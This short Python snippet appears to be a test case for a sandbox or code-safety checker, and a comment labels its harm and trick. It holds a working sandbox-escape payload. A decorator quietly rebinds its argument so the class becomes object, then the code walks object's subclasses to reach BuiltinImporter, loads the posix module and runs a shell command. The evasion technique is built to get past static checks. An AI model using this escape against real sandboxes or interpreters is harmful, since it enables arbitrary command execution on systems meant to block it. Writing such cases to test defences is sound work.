# HARM: shell via BuiltinImporter | TRICK: decorator reassigns its parameter via for-target before `return c`
def register(c):
    for c in (object,):
        pass
    return c
@register
class Base: pass
for k in Base.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
